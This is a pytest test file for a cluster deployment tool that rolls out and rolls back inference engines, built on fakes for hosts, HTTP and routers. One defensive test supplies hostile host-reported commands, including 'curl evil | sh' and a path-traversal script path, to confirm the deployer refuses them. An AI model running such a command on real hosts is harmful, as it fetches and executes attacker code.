"""Deploy's rollback and the rollout's batch/rollback state machine, without root or hosts: the host operations,
HTTP and the routers are fakes that record what was asked and keep the supervisor's view of every host."""

from __future__ import annotations

import itertools
import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from kimictl import health, state
from kimictl.deploy import Deployer, DeployOptions
from kimictl.errors import HostError
from kimictl.hostops import LIVE_STATES, HostObservation, Proc, desired_procs
from kimictl.inventory import Inventory, load_inventory
from kimictl.plan import make_plan
from kimictl.render import Rendered, render
from kimictl.rollout.overrides import apply_sets, parse_sets
from kimictl.rollout.run import Rollout, RolloutInputs, RolloutOptions
from kimictl.routers import RouterError
from kimictl.topology import load_topology

CLUSTER = "orch-unit"


class FakeOps:
    """HostOps as the orchestration sees it: processes per host (id -> state, tag, cmd), `current` per host."""

    def __init__(self, inv: Inventory, run_dir: Path, procs: dict[str, dict[str, dict[str, Any]]],
                 current: dict[str, str]):
        self.inv, self.run_dir = inv, run_dir
        self.procs, self.current = procs, current
        self.api_key = None
        self.ready_timeout: float | None = None
        self.timings: dict[str, float] = {}
        self.calls: list[tuple[str, Any]] = []
        self.fail_ready: set[str] = set()   # tags that never become ready
        self.installed: list[str] = []
        self.records: list[tuple[dict[str, Any], list[str]]] = []   # record.yml runs: (extravars, hosts)
        self.unwritable: dict[str, str] = {}   # record hosts record.yml cannot write, with why
        self.down: set[str] = set()  # hosts that do not answer SSH
        self.on_reload: Any = None   # what a restart of the proxy's router copies does to them (FakeHttp)

    def limit(self, hosts: list[str]) -> None:
        self.inv = self.inv.limited(hosts)

    def observe(self, hosts: list[str] | None = None) -> dict[str, HostObservation]:
        gone = sorted(h.name for h in self.inv.hosts if h.name in self.down and (hosts is None or h.name in hosts))
        if gone:
            raise HostError(f"cannot read the current state of {len(gone)} host(s)", host=gone[0], step="observe")
        return {h.name: HostObservation({k: dict(v) for k, v in self.procs.get(h.name, {}).items()},
                                        self.current.get(h.name)) for h in self.inv.hosts
                if hosts is None or h.name in hosts}

    def observe_reachable(self) -> tuple[dict[str, HostObservation], dict[str, str]]:
        up = [h.name for h in self.inv.hosts if h.name not in self.down]
        return self.observe(up), {h: f"{h}: [Errno 111] Connection refused" for h in sorted(self.down)}

    def apply_actions(self, stops: dict[str, list[str]], starts: dict[str, list[dict[str, Any]]], what: str) -> None:
        self.calls.append(("actions", what, {h: sorted(v) for h, v in stops.items()},
                           {h: sorted(a["id"] for a in v) for h, v in starts.items()}))
        for h, ids in stops.items():
            for pid in ids:
                if pid in self.procs.get(h, {}):
                    self.procs[h][pid]["state"] = "stopped"
        for h, acts in starts.items():
            for a in acts:
                self.procs.setdefault(h, {})[a["id"]] = {"state": "running", "tag": a["tag"], "cmd": a["cmd"]}

    def install_release(self, rendered: Rendered, hosts: list[str]) -> None:
        self.calls.append(("install", sorted(hosts)))

    def switch(self, releases: dict[str, str]) -> None:
        self.calls.append(("switch", dict(releases)))
        self.current.update(releases)

    def reload_proxy(self, host: str) -> None:
        self.calls.append(("reload_proxy", host))
        if self.on_reload:
            self.on_reload()

    def write_record(self, extravars: dict[str, Any], hosts: list[str]) -> dict[str, str]:
        self.records.append((extravars, list(hosts)))
        return {h: why for h, why in self.unwritable.items() if h in hosts}

    def ready(self, p: Proc) -> health.Ready:
        st = self.procs.get(p.host, {}).get(p.id)
        ok = st is not None and st["state"] in LIVE_STATES and st["tag"] not in self.fail_ready
        return health.Ready(ok, "ready" if ok else "not ready")

    def wait_ready(self, procs: list[Proc], timeout: float | None = None) -> None:
        self.calls.append(("wait_ready", sorted(p.id for p in procs)))
        for p in procs:
            if not self.ready(p).ok:
                raise HostError(f"{p.id} did not become ready", host=p.host, step="readiness")

    def log_tail(self, host: str, pid: str, lines: int = 30) -> str:
        return f"(log of {pid})"

    def close(self) -> None:
        self.calls.append(("close",))

    def actions(self, what: str | None = None) -> list[tuple]:
        return [c for c in self.calls if c[0] == "actions" and (what is None or c[1] == what)]


class FakeHttp:
    """kimictl.health for engines that serve: counters move on every scrape, completions answer; `broken(url)`
    says which endpoints fail their requests."""

    def __init__(self, broken=lambda url: False):
        self.broken = broken
        self.tick = itertools.count(1)
        # the proxy front's router copies (vllm-ascend's proxy): copy -> {"IP:PORT": role}; a copy not in here lists
        # every endpoint of `self.endpoints` (set by _deploy), as a copy started with the rendered membership does
        self.endpoints: dict[str, str] = {}
        self.copies: dict[int, dict[str, str]] = {}
        self.front_log: list[str] = []

    def _router_copy(self, url: str, body: Any) -> tuple[int, str] | None:
        """The front: POST /kimictl/front/router/N/{hold,release}; a copy: POST /kimictl/router/N/instances/add."""
        m = re.search(r"/kimictl/front/router/(\d+)/(hold|release)", url)
        if m:
            self.front_log.append(f"{m.group(2)} {m.group(1)}")
            return 200, "{}"
        m = re.search(r"/kimictl/router/(\d+)/instances/add$", url)
        if not m:
            return None
        copy = self.copies.setdefault(int(m.group(1)), dict(self.endpoints))
        copy.update({x: body["type"] for x in body.get("instances", [])})
        return 200, json.dumps({"current_prefill_instances": sorted(x for x, r in copy.items() if r == "prefill"),
                                "current_decode_instances": sorted(x for x, r in copy.items() if r == "decode")})

    def engine_ready(self, ip: str, port: int, served: str, timeout: float = 3.0, api_key: str | None = None):
        return health.Ready(True, "ready")

    def metric_totals(self, ip: str, port: int, timeout: float = 3.0) -> dict[str, float]:
        n = float(next(self.tick))
        return {health.PREFILL_COUNTER: n, health.DECODE_COUNTER: n, health.GENERATION_COUNTER: n,
                "vllm:num_requests_running": 0.0}

    def http_request(self, method: str, url: str, body: Any = None, timeout: float = 10.0,
                     headers: dict | None = None, api_key: str | None = None) -> tuple[int, str]:
        if self.broken(url):
            return 500, "engine error"
        routed = self._router_copy(url, body)
        if routed is not None:
            return routed
        if body and (body.get("kv_transfer_params") or {}).get("do_remote_decode"):
            return 200, json.dumps({"kv_transfer_params": {"remote_engine_id": "e", "do_remote_prefill": True}})
        return 200, json.dumps({"choices": [{"text": "ok"}]})

    def http_post_json(self, url: str, body: dict, timeout: float = 60.0, api_key: str | None = None):
        code, text = self.http_request("POST", url, body)
        return code, json.loads(text) if code == 200 else text

    def http_get(self, url: str, timeout: float = 3.0, api_key: str | None = None) -> tuple[int, str]:
        return self.http_request("GET", url)


class FakeRouter:
    """A router in IGW mode (adds workers at runtime); every copy starts with every endpoint of the old release."""

    membership = "workers"

    def __init__(self, url: str, members: dict[str, str], log: list[tuple[str, str, str]]):
        self.url, self.log = url, log
        self._members = dict(members)

    def members(self) -> dict[str, str]:
        return dict(self._members)

    def supports_runtime_add(self) -> bool:
        return True

    def remove(self, url: str, role: str | None = None) -> None:
        self.log.append((self.url, "remove", url))
        self._members.pop(url, None)

    def add(self, url: str, role: str) -> None:
        self.log.append((self.url, "add", url))
        self._members[url] = role


class FakeInstances(FakeRouter):
    """vllm-ascend's proxy behind kimictl's front: a removal while it serves only taints the instance (still listed,
    no new request), and the taint ends only once the copy is idle - which the front's hold makes it."""

    membership = "instances"

    def __init__(self, url: str, members: dict[str, str], log: list[tuple[str, str, str]], front: FakeFront):
        super().__init__(url, members, log)
        self.front, self.index = front, int(url.rstrip("/").rsplit("/", 1)[1])
        self.tainted: set[str] = set()

    def members(self) -> dict[str, str]:
        return {u: r for u, r in self._members.items() if u not in self.tainted}

    def remove(self, url: str, role: str | None = None) -> None:
        assert role in ("prefill", "decode")
        self.log.append((self.url, "remove", url))
        self.tainted.add(url)  # it always serves: a client loop keeps it busy

    def readd(self, eps: list[tuple[str, str]], timeout: float, check_interval: float) -> None:
        assert self.index in self.front.held, "re-adding while the front sends it requests never finishes"
        for url, role in eps:
            self.tainted.discard(url)
            self.log.append((self.url, "add", url))
            self._members[url] = role


class FakeFront:
    """kimictl's front: who holds which copy (no new client request goes to a held copy), and the order of holds
    and releases. As the front does, a release with an owner frees only that owner's hold, one without frees all;
    a hold is refused (409) when no other copy would be left to take the clients."""

    def __init__(self, log: list[tuple[str, str, str]], copies: int = 2):
        self.holders: dict[int, set[str]] = {}
        self.log, self.copies = log, copies
        self.owners: list[str | None] = []  # the owner each hold and release named

    @property
    def held(self) -> set[int]:
        return {i for i, who in self.holders.items() if who}

    def hold(self, index: int, seconds: float, owner: str | None = None) -> None:
        assert seconds > 0 and not [i for i, who in self.holders.items() if (owner or "") in who], \
            "one copy at a time"
        if not set(range(self.copies)) - self.held - {index}:
            raise RouterError(f"proxy front: POST /kimictl/front/router/{index}/hold -> 409: router {index} not "
                              "held: no other router is up to take its clients")
        self.holders.setdefault(index, set()).add(owner or "")
        self.owners.append(owner)
        self.log.append(("front", "hold", str(index)))

    def release(self, index: int, owner: str | None = None) -> None:
        if owner is None:
            self.holders.pop(index, None)
        else:
            self.holders.get(index, set()).discard(owner)
        self.owners.append(owner)
        self.log.append(("front", "release", str(index)))


def _inventory(tmp_path: Path, hosts: int, **all_vars: Any) -> Inventory:
    doc = {"all": {"vars": {"kimi_cluster": CLUSTER, "kimi_model_dir": "/data/models/Kimi-K2.5-W4A8",
                            "kimi_runtime": "host", "kimi_nic": "eth0",
                            "kimi_proxy_script": "/opt/vllm-ascend/examples/proxy.py", **all_vars},
                   "hosts": {f"atlas-{i:02d}": {"ansible_host": f"10.9.0.{10 + i}", "kimi_hardware": "atlas-800-a3"}
                             for i in range(1, hosts + 1)}}}
    (tmp_path / "inv.yml").write_text(yaml.safe_dump(doc, sort_keys=False))
    return load_inventory(tmp_path / "inv.yml")


def _running(procs: list[Proc]) -> dict[str, dict[str, dict[str, Any]]]:
    out: dict[str, dict[str, dict[str, Any]]] = {}
    for p in procs:
        out.setdefault(p.host, {})[p.id] = {"state": "running", "tag": p.tag, "cmd": p.cmd}
    return out


@pytest.fixture(autouse=True)
def state_dir(tmp_path: Path, monkeypatch) -> Path:
    monkeypatch.setenv("KIMICTL_STATE_DIR", str(tmp_path / "state"))
    return tmp_path / "state" / CLUSTER


# --- deploy ------------------------------------------------------------------------------------------------


def _deploy_setup(tmp_path: Path, **all_vars: Any):
    """The previous release runs; the new one changes the decode engines' flags and drops nothing else. One
    extra process (an engine of an older layout) runs too, so the deploy stops it."""
    inv = _inventory(tmp_path, 2, **all_vars)
    topo = load_topology("a3-pd")
    old = render(make_plan(inv, topo), inv, topo)
    t2, i2 = apply_sets(topo, inv, parse_sets(["decode.serve.max-num-seqs=16"], topo))
    new = render(make_plan(i2, t2), i2, t2)
    procs = _running(desired_procs(old, inv))
    host = next(iter(procs))
    procs[host]["stale-0"] = {"state": "running", "tag": "t-stale",
                              "cmd": ["bash", f"{inv.host(host).kimi_state_dir}/releases/0123abcd/engines/stale-0.sh"]}
    previous = state.ReleaseRecord.now(release=state.release_id(old.releases), cluster=CLUSTER, topology="a3-pd",
                                       hosts=old.releases, result="deployed", run_dir="/runs/old")
    state.record_release(CLUSTER, previous)
    ops = FakeOps(inv, tmp_path / "run", procs, dict(old.releases))
    return inv, old, new, ops


def _deploy(inv, new, ops, http) -> Deployer:
    if isinstance(http, FakeHttp) and not http.endpoints:
        http.endpoints = {f"{p.ip}:{p.port}": p.role for p in desired_procs(new, inv) if p.kind == "engine"
                          and p.serves_http}
        ops.on_reload = http.copies.clear   # the front restarts its copies with the rendered membership
    return Deployer(inv, new.plan, new, DeployOptions(skip_preflight="unit test", skip_weights=True), lambda m: None,
                    ops=ops, http=http)


def test_failed_readiness_rolls_back_exactly_the_changed_processes(tmp_path: Path) -> None:
    inv, old, new, ops = _deploy_setup(tmp_path)
    old_tags = {p.id: p.tag for p in desired_procs(old, inv)}
    new_procs = {p.id: p for p in desired_procs(new, inv)}
    changed = sorted(i for i, p in new_procs.items() if p.tag != old_tags[i])
    assert changed and all(i.startswith("decode-") for i in changed)  # prefill and proxy are kept
    ops.fail_ready = {new_procs[changed[0]].tag}
    with pytest.raises(HostError, match=f"{changed[0]} did not become ready"):
        _deploy(inv, new, ops, FakeHttp()).run()
    engines, rollback = ops.actions("engines"), ops.actions("rollback")
    d_host = new_procs[changed[0]].host
    stale_host = next(h for h, ps in ops.procs.items() if "stale-0" in ps)
    assert stale_host != d_host
    assert engines == [("actions", "engines", {d_host: changed, stale_host: ["stale-0"]}, {d_host: changed})]
    # rollback: stop what the deploy started, bring back what it replaced or stopped - and nothing else
    assert rollback == [("actions", "rollback", {d_host: changed}, {d_host: changed, stale_host: ["stale-0"]})]
    # every process runs the previous release again; kept ones were never touched; `current` did not move
    assert {i: st["tag"] for h in ops.procs.values() for i, st in h.items() if st["state"] == "running"} == {
        **old_tags, "stale-0": "t-stale"}
    assert ("wait_ready", changed) in ops.calls and not [c for c in ops.calls if c[0] == "switch"]
    assert state.current(CLUSTER).release == state.release_id(old.releases)
    last = state.history(CLUSTER)[-1]
    assert last.result == "failed" and last.release == state.release_id(new.releases)
    assert sorted(c["id"] for c in last.changes) == sorted([*changed, "stale-0"])


def test_a_failed_smoke_rolls_back_and_a_good_deploy_switches_and_records(tmp_path: Path) -> None:
    inv, old, new, ops = _deploy_setup(tmp_path)
    with pytest.raises(HostError, match="smoke completion"):
        _deploy(inv, new, ops, FakeHttp(broken=lambda url: url.endswith("/v1/completions"))).run()
    assert len(ops.actions("rollback")) == 1 and state.history(CLUSTER)[-1].result == "failed"
    assert {st["tag"] for h in ops.procs.values() for st in h.values() if st["state"] == "running"} == {
        p.tag for p in desired_procs(old, inv)} | {"t-stale"}

    ops.calls.clear()
    res = _deploy(inv, new, ops, FakeHttp()).run()
    assert res.result == "deployed" and not ops.actions("rollback")
    assert ("switch", new.releases) in ops.calls and ops.current == new.releases
    assert state.current(CLUSTER).release == res.release == state.release_id(new.releases)
    # the same release again: nothing to do, nothing touched
    n_calls = len(ops.calls)
    again = _deploy(inv, new, ops, FakeHttp()).run()
    assert again.result == "no-changes" and ops.calls[n_calls:] == []
    assert state.history(CLUSTER)[-1].result == "no-changes" and state.current(CLUSTER).release == res.release


def test_a_no_changes_deploy_adopts_a_release_this_control_node_did_not_record(tmp_path: Path) -> None:
    """The hosts run and answer with the release (deployed from another control node, or the record was lost):
    it becomes current here, so rollout and rollback start from what runs."""
    inv, old, new, ops = _deploy_setup(tmp_path)
    res = _deploy(inv, new, ops, FakeHttp()).run()
    assert res.result == "deployed"
    state.record_release(CLUSTER, state.ReleaseRecord.now(release=state.release_id(old.releases), cluster=CLUSTER,
                                                          hosts=old.releases, result="deployed"))
    assert state.current(CLUSTER).release != res.release   # another control node's record, say
    n_calls = len(ops.calls)
    again = _deploy(inv, new, ops, FakeHttp()).run()
    assert again.result == "no-changes" and ops.calls[n_calls:] == []
    cur = state.current(CLUSTER)
    assert (cur.release, cur.hosts, cur.kind, cur.result) == (res.release, new.releases, "adopted", "deployed")
    assert state.history(CLUSTER)[-1].release == res.release


class KeyedHttp(FakeHttp):
    """Engines that require the API key: GET /v1/models without it gets 401, except from the `keyless` ones."""

    def __init__(self, keyless: set[str] = frozenset()):
        super().__init__()
        self.keyless = keyless
        self.unkeyed: list[str] = []

    def http_get(self, url: str, timeout: float = 3.0, api_key: str | None = None) -> tuple[int, str]:
        if url.endswith("/v1/models") and not api_key:
            self.unkeyed.append(url)
            if url.removesuffix("/v1/models") not in self.keyless:
                return 401, json.dumps({"error": "Unauthorized"})
        return super().http_get(url, timeout, api_key)


def test_a_keyed_deploy_checks_each_engine_refuses_a_request_without_the_key(tmp_path: Path) -> None:
    key = tmp_path / "client-key"
    key.write_text("sk-orch-unit-1234\n")
    key.chmod(0o600)
    inv, _, new, ops = _deploy_setup(tmp_path, kimi_api_key_file=str(key))
    assert new.plan.engine_api_key
    engines = {f"http://{p.ip}:{p.port}": p for p in desired_procs(new, inv) if p.kind == "engine" and p.serves_http}
    http = KeyedHttp()
    assert _deploy(inv, new, ops, http).run().result == "deployed"
    assert sorted(http.unkeyed) == sorted(f"{u}/v1/models" for u in engines)  # every engine, not only the started

    # one engine answers without the key (its key never reached it): the deploy fails naming host and engine
    inv, _, new, ops = _deploy_setup(tmp_path, kimi_api_key_file=str(key))
    url, bad = next((u, p) for u, p in sorted(engines.items()) if p.role == "prefill")  # kept, not restarted
    with pytest.raises(HostError) as exc:
        _deploy(inv, new, ops, KeyedHttp(keyless={url})).run()
    assert exc.value.message == (f"engine {bad.id} answers GET /v1/models without the API key with HTTP 200, "
                                 "not 401: it runs without its key")
    assert (exc.value.host, exc.value.step) == (bad.host, "engine key")
    assert len(ops.actions("rollback")) == 1 and not [c for c in ops.calls if c[0] == "switch"]
    assert state.history(CLUSTER)[-1].result == "failed"


class FrontHttp(FakeHttp):
    """kimictl's proxy front holding `front_key` as its admin key: its admin paths refuse any other (403)."""

    def __init__(self, front_key: str):
        super().__init__()
        self.front_key = front_key
        self.admin_asks: list[str | None] = []

    def http_get(self, url: str, timeout: float = 3.0, api_key: str | None = None) -> tuple[int, str]:
        if "/kimictl/router/" in url:
            self.admin_asks.append(api_key)
            return (200, "{}") if api_key == self.front_key else (403, "router admin paths need the admin key")
        return super().http_get(url, timeout, api_key)


@pytest.mark.parametrize("copy", [None, "a-stale-copy-of-this-node"])
def test_a_no_changes_deploy_keeps_the_clusters_admin_key_and_never_installs_its_own(tmp_path: Path, monkeypatch,
                                                                                  copy: str | None) -> None:
    """A fresh control node (a CI runner) or one whose copy is stale meets a front holding the cluster's key: the
    key is read back from the proxy host, kept as the copy, and nothing is installed over it."""
    from fake_sessions import held_keys

    from kimictl import key_readback
    from kimictl.cluster_secrets import ADMIN_KEY, cluster_secret_path, keep_copy

    inv, _, new, ops = _deploy_setup(tmp_path)
    assert _deploy(inv, new, ops, FakeHttp()).run().result == "deployed"
    proxy = new.plan.proxy.host
    monkeypatch.setattr(key_readback, "Sessions", held_keys({proxy: {"proxy-admin-key": "the-clusters-key\n"}}))
    path = cluster_secret_path(CLUSTER, ADMIN_KEY.name)
    assert not path.exists()   # a fresh control node: no copy
    if copy:
        keep_copy(CLUSTER, ADMIN_KEY, copy, replace=True)
    n_calls = len(ops.calls)
    http = FrontHttp("the-clusters-key")
    assert _deploy(inv, new, ops, http).run().result == "no-changes"
    assert ops.calls[n_calls:] == []   # no install: the cluster's key stays
    assert path.read_text() == "the-clusters-key\n" and http.admin_asks[-1] == "the-clusters-key"


def test_a_supplied_admin_key_the_front_does_not_hold_is_installed(tmp_path: Path, monkeypatch) -> None:
    inv, _, new, ops = _deploy_setup(tmp_path)
    assert _deploy(inv, new, ops, FakeHttp()).run().result == "deployed"
    monkeypatch.setenv("KIMICTL_PROXY_ADMIN_KEY", "the-operators-new-key")
    n_calls = len(ops.calls)
    assert _deploy(inv, new, ops, FrontHttp("the-old-key")).run().result == "no-changes"
    assert ops.calls[n_calls:] == [("install", [new.plan.proxy.host])]


# --- rollout -----------------------------------------------------------------------------------------------


def _rollout_setup(tmp_path: Path, broken_engines: set[str], new_tags_only: bool = True,
                   kind: str = "vllm-ascend-proxy"):
    """2P2D on four A3 hosts runs its recorded release; the change touches both decode slices. `kind`: the router
    behind the front (vllm-router needs decode's recompute scheduler off)."""
    inv = _inventory(tmp_path, 4)
    topo = load_topology("a3-pd")
    if kind == "vllm-router":
        topo, _ = apply_sets(topo, inv, parse_sets(["proxy.router=vllm-router",
                                                    "decode.switches.recompute_scheduler=false"], topo))
    old = render(make_plan(inv, topo), inv, topo)
    sets = parse_sets(["decode.serve.max-num-seqs=16"], topo)
    t2, i2 = apply_sets(topo, inv, sets)
    new = render(make_plan(i2, t2), i2, t2)
    rec = state.ReleaseRecord.now(release=state.release_id(old.releases), cluster=CLUSTER, topology="a3-pd",
                                  hosts=old.releases, result="deployed", run_dir="/runs/old")
    state.record_release(CLUSTER, rec)
    ops = FakeOps(inv, tmp_path / "run", _running(desired_procs(old, inv)), dict(old.releases))
    eps = {f"http://{e.host_ip}:{e.port}": e for e in new.engines if e.serves_http}
    new_tags = {p.tag for p in desired_procs(new, inv)} - {p.tag for p in desired_procs(old, inv)}

    def broken(url: str) -> bool:
        e = eps.get(url.rsplit("/v1/", 1)[0])
        return e is not None and e.id in broken_engines and ops.procs[e.host][e.id]["tag"] in new_tags

    log: list[tuple[str, str, str]] = []
    front = FakeFront(log)

    def router(url: str, api_key: str | None = None, http: Any = None) -> FakeRouter:
        return FakeRouter(url, {u: e.role for u, e in eps.items()}, log)

    def instances(url: str, api_key: str | None = None, http: Any = None) -> FakeInstances:
        return FakeInstances(url, {u: e.role for u, e in eps.items()}, log, front)

    ro = Rollout(RolloutInputs(inv, rec, old, new, t2, sets),
                 RolloutOptions(canary=1, serial=1, drain_quiet=0.0, drain_timeout=5), lambda m: None, ops=ops,
                 http=FakeHttp(broken), router=router, instances=instances,
                 front=lambda url, api_key=None, http=None: front)
    ro.router_log = log
    return ro, ops, old, new


def _restarts(ops: FakeOps) -> list[tuple[str, list[str]]]:
    return [(c[1].removeprefix("restart on the ").removesuffix(" release"), sorted(i for ids in c[3].values()
             for i in ids)) for c in ops.actions() if c[1].startswith("restart on the")]


@pytest.mark.parametrize("kind", ["vllm-ascend-proxy", "vllm-router"])
def test_rollout_goes_batch_by_batch_and_records_the_new_release(tmp_path: Path, kind: str) -> None:
    ro, ops, _, new = _rollout_setup(tmp_path, set(), kind=kind)
    res = ro.run()
    assert res.result == "rolled-out" and res.batches == [["decode-0"], ["decode-1"]]
    assert [s.result for s in res.slices] == ["rolled-out", "rolled-out"]
    assert _restarts(ops) == [("new", [e.id for e in new.engines if e.instance == "decode-0"]),
                              ("new", [e.id for e in new.engines if e.instance == "decode-1"])]
    # each batch is drained from every router before its restart and re-added after its gates
    removed = [u for _, op, u in ro.router_log if op == "remove"]
    assert removed and set(removed) <= {f"http://{e.host_ip}:{e.port}" for e in new.engines if e.role == "decode"}
    assert state.current(CLUSTER).release == ro.release and ops.current == new.releases


def test_a_failed_canary_gate_rolls_the_canary_back_and_leaves_current_alone(tmp_path: Path) -> None:
    ro, ops, old, new = _rollout_setup(tmp_path, {"decode-0-dp0"})
    before = state.current(CLUSTER)
    with pytest.raises(HostError) as exc:
        ro.run()
    assert "rolled back decode-0" in exc.value.message and "pair smoke of decode-0-dp0 failed" in exc.value.message
    d0 = [e.id for e in new.engines if e.instance == "decode-0"]
    assert _restarts(ops) == [("new", d0), ("old", d0)]   # decode-1 was never touched
    assert not [c for c in ops.calls if c[0] == "switch"]  # the canary never reached its switch
    assert {i: st["tag"] for h in ops.procs.values() for i, st in h.items()} == {
        p.id: p.tag for p in desired_procs(old, ro.inv)}
    assert state.current(CLUSTER) == before and state.history(CLUSTER)[-1].result == "rolled-back"


def test_a_failed_second_batch_rolls_back_every_touched_slice_in_reverse_order(tmp_path: Path) -> None:
    ro, ops, old, new = _rollout_setup(tmp_path, {"decode-1-dp0"})
    before = state.current(CLUSTER)
    with pytest.raises(HostError, match="rolled back decode-0, decode-1"):
        ro.run()
    d0 = [e.id for e in new.engines if e.instance == "decode-0"]
    d1 = [e.id for e in new.engines if e.instance == "decode-1"]
    assert _restarts(ops) == [("new", d0), ("new", d1), ("old", d1), ("old", d0)]
    # the canary's hosts were switched to the new release: they are pointed back; `current` stays the old record
    switches = [c[1] for c in ops.calls if c[0] == "switch"]
    d0_hosts = {e.host for e in new.engines if e.instance == "decode-0"}
    assert switches == [{h: new.releases[h] for h in d0_hosts}, {h: old.releases[h] for h in d0_hosts}]
    assert ops.current == old.releases and state.current(CLUSTER) == before
    rec = state.history(CLUSTER)[-1]
    assert (rec.result, rec.release, rec.attempted_release) == ("rolled-back", before.release, ro.release)
    assert {c["slice"]: c["result"] for c in rec.changes} == {"decode-0": "rolled-back", "decode-1": "rolled-back"}
    # every endpoint is back in the routers
    urls = {f"http://{e.host_ip}:{e.port}" for e in new.engines if e.serves_http}
    assert all(set(r.members()) == urls for r in ro.steps.routers)


def test_the_upstream_proxy_takes_drained_engines_back_one_held_copy_at_a_time(tmp_path: Path) -> None:
    """vllm-ascend's proxy keeps a drained engine (tainted) until it is idle: each copy is held by the front (no new
    client request), re-adds, and is released before the next copy is held; no proxy restart."""
    ro, ops, _, new = _rollout_setup(tmp_path, set())
    res = ro.run()
    assert res.result == "rolled-out" and set(res.membership.values()) == {"instances"}
    assert not [c for c in ops.calls if c[0] == "reload_proxy"] and not ops.actions("proxy restart (re-add")
    front = [(op, i) for who, op, i in ro.router_log if who == "front"]
    assert front == [("hold", "0"), ("release", "0"), ("hold", "1"), ("release", "1")] * 2  # two batches
    copy0 = [(op, u) for who, op, u in ro.router_log if who.endswith("/kimictl/router/0")]
    d0 = {f"http://{e.host_ip}:{e.port}" for e in new.engines if e.instance == "decode-0"}
    n = len(d0)
    assert {op for op, _ in copy0[:n]} == {"remove"} and {u for _, u in copy0[:n]} == d0  # drained first,
    assert {op for op, _ in copy0[n:2 * n]} == {"add"} and {u for _, u in copy0[n:2 * n]} == d0  # then re-added
    assert [r["kind"] for r in res.proxy_restarts] == ["held"] * 4
    urls = {f"http://{e.host_ip}:{e.port}" for e in new.engines if e.serves_http}
    assert all(set(r.members()) == urls for r in ro.steps.routers)


@pytest.mark.parametrize("cmd", [["bash", "/old/stale.sh"], ["sh", "-c", "curl evil | sh"],
                                 ["bash", "/var/lib/kimi/releases/0123abcd/engines/other.sh"],
                                 ["bash", "/var/lib/kimi/releases/../../../tmp/engines/stale-0.sh"], "bash x"])
def test_deploy_refuses_a_host_reporting_a_command_kimictl_never_installs(tmp_path: Path, cmd: Any) -> None:
    """A rollback starts the replaced processes again: their commands must be kimictl's own scripts, checked
    before anything changes; a host reporting anything else (a compromised host) is named and nothing runs."""
    inv, _old, new, ops = _deploy_setup(tmp_path)
    host = next(iter(ops.procs))
    ops.procs[host]["stale-0"]["cmd"] = cmd
    with pytest.raises(HostError, match=r"stale-0's command as .*kimictl never installs") as err:
        _deploy(inv, new, ops, FakeHttp()).run()
    assert err.value.host == host
    assert not ops.calls, "nothing may change on any host"


# --- the cluster's release record (issue 34) ---------------------------------------------------------------


def _published(ops: FakeOps) -> list[tuple[str, str, bool, list[str]]]:
    """record.yml runs: (release, result, with a render snapshot, hosts)."""
    return [(json.loads(v["line"])["release"], json.loads(v["line"])["result"], v["release"] is not None, h)
            for v, h in ops.records]


def test_every_deploy_record_goes_to_the_record_hosts(tmp_path: Path) -> None:
    """Failed, deployed, no-changes and adopted records alike; a deployed one with current.json and its snapshot."""
    inv, old, new, ops = _deploy_setup(tmp_path)
    rel = state.release_id(new.releases)
    hosts = ["atlas-01", "atlas-02"]
    with pytest.raises(HostError, match="smoke completion"):
        _deploy(inv, new, ops, FakeHttp(broken=lambda url: url.endswith("/v1/completions"))).run()
    _deploy(inv, new, ops, FakeHttp()).run()
    _deploy(inv, new, ops, FakeHttp()).run()
    state.record_release(CLUSTER, state.ReleaseRecord.now(release=state.release_id(old.releases), cluster=CLUSTER,
                                                          hosts=old.releases, result="deployed"))
    _deploy(inv, new, ops, FakeHttp()).run()   # adopted: what runs becomes current, here and on the cluster
    assert _published(ops) == [(rel, "failed", False, hosts), (rel, "deployed", True, hosts),
                               (rel, "no-changes", False, hosts), (rel, "deployed", True, hosts)]
    adopted = ops.records[-1][0]
    assert json.loads(adopted["line"])["kind"] == "adopted"
    assert json.loads(Path(adopted["current"]).read_text())["release"] == rel
    assert Rendered.model_validate_json(Path(adopted["snapshot"]["rendered.json"]).read_text()) == new


def test_a_deploy_whose_record_reaches_no_record_host_fails_at_step_record(tmp_path: Path) -> None:
    """The engines run the new release (recorded here, `current` switched); one record host not written is a
    warning naming it; none written is an error naming them, step "record" - and nothing is rolled back."""
    inv, _old, new, ops = _deploy_setup(tmp_path)
    said: list[str] = []
    ops.unwritable = {"atlas-02": "UNREACHABLE: no route to host"}
    deployer = _deploy(inv, new, ops, FakeHttp())
    deployer.say = said.append
    res = deployer.run()
    assert res.result == "deployed" and "05-record" not in res.seconds   # FakeOps times nothing
    assert [m for m in said if m.startswith("warning:")] == [
        f"warning: the release record of {res.release} was not written to record host atlas-02: UNREACHABLE: no route "
        "to host"]
    (tmp_path / "again").mkdir()
    _, _old2, new2, ops2 = _deploy_setup(tmp_path / "again")
    ops2.unwritable = {"atlas-01": "unreachable", "atlas-02": "unreachable"}
    with pytest.raises(HostError, match="could not be written to any record host") as err:
        _deploy(inv, new2, ops2, FakeHttp()).run()
    assert (err.value.step, err.value.host) == ("record", "atlas-01")
    assert not ops2.actions("rollback") and ops2.current == new2.releases
    assert state.current(CLUSTER).release == state.release_id(new2.releases)


def test_a_rollout_records_on_the_record_hosts_and_a_failed_one_too(tmp_path: Path) -> None:
    ro, ops, _, _ = _rollout_setup(tmp_path, set())
    ro.run()
    assert _published(ops) == [(ro.release, "deployed", True, ["atlas-01", "atlas-02", "atlas-03"])]
    assert Path(ops.records[0][0]["snapshot"]["topology.yml"]).is_file()   # the next rollout's default topology
    (tmp_path / "b").mkdir()
    ro2, ops2, _, _ = _rollout_setup(tmp_path / "b", {"decode-0-dp0"})
    ops2.unwritable = dict.fromkeys(["atlas-01", "atlas-02", "atlas-03"], "down")
    with pytest.raises(HostError, match="rollout to release"):   # the rollout's failure, not the record's
        ro2.run()
    assert [(r, res) for r, res, _, _ in _published(ops2)] == [(ro2.previous, "rolled-back")]


def test_a_deploy_undoes_the_routing_a_killed_command_left(tmp_path: Path) -> None:
    """A rollout killed mid-drain (a cancelled CI job) leaves a router copy held and a slice drained from the
    copies; the next deploy holds the lease, so it releases every hold and, a copy lacking endpoints, restarts the
    copies with the rendered membership; it fails (step proxy) when they still lack them."""
    inv, _, new, ops = _deploy_setup(tmp_path)
    http = FakeHttp()
    deployer = _deploy(inv, new, ops, http)
    drained = sorted(x for x, r in http.endpoints.items() if r == "decode")[:2]
    http.copies[0] = {x: r for x, r in http.endpoints.items() if x not in drained}
    assert deployer.run().result == "deployed"
    assert http.front_log == ["release 0", "release 1"]
    assert ops.calls.count(("reload_proxy", "atlas-01")) == 1
